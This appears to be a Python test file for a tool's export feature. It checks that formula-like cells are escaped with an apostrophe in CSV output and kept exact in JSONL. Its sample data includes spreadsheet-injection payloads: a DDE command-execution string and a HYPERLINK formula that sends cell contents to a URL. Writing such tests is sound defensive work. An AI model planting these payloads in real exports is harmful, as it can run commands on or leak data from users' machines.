"""Cells that a spreadsheet would run: in CSV they are kept from it by an apostrophe, in JSONL they are exact."""

import csv
import io
import json

from .conftest import Program

_FORMULAS = [
    '=HYPERLINK("http://127.0.0.1/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=1",
    "--5",
]
_PLAIN = ["-5", "+49", "-1.5", "a=b", "5-3", "'quoted", "plain", "0", "1e5"]
_TEXTS = [*_FORMULAS, *_PLAIN]


def _submitted(program: Program) -> None:
    rows = [
        {"custom_id": f"row-{number}", "prompt": f"{text} {number}" if text in _PLAIN else text, "words": text}
        for number, text in enumerate(_TEXTS)
    ]
    program.write("texts.jsonl", "\n".join(json.dumps(row) for row in [*rows, {"custom_id": "-2+3", "prompt": "an id"}]))
    program.run("submit", "texts.jsonl")


def _exported(program: Program, kind: str) -> str:
    program.run("export", "texts", "--format", kind, "--to", f"out.{kind}")
    # Bytes, since reading as text would change carriage returns.
    return (program.folder / f"out.{kind}").read_bytes().decode()


def test_formulas_are_exported_to_csv_behind_an_apostrophe(program: Program) -> None:
    """Prompts and metadata that begin like a formula get an apostrophe; numbers, other texts and ids are as they are."""
    _submitted(program)
    exported = _exported(program, "csv")
    rows = {row["custom_id"]: row for row in csv.DictReader(io.StringIO(exported, newline=""))}
    assert "-2+3" in rows
    words = [rows[f"row-{number}"]["words"] for number in range(len(_TEXTS))]
    assert words == [*(f"'{text}" for text in _FORMULAS), *_PLAIN]
    assert [rows[f"row-{number}"]["prompt"] for number in range(len(_FORMULAS))] == [f"'{text}" for text in _FORMULAS]


def test_jsonl_is_exact(program: Program) -> None:
    """What a program reads is what was written."""
    _submitted(program)
    lines = _exported(program, "jsonl").splitlines()
    assert [json.loads(line)["metadata"].get("words") for line in lines] == [*_TEXTS, None]
    assert [json.loads(line)["prompt"] for line in lines][: len(_FORMULAS)] == _FORMULAS
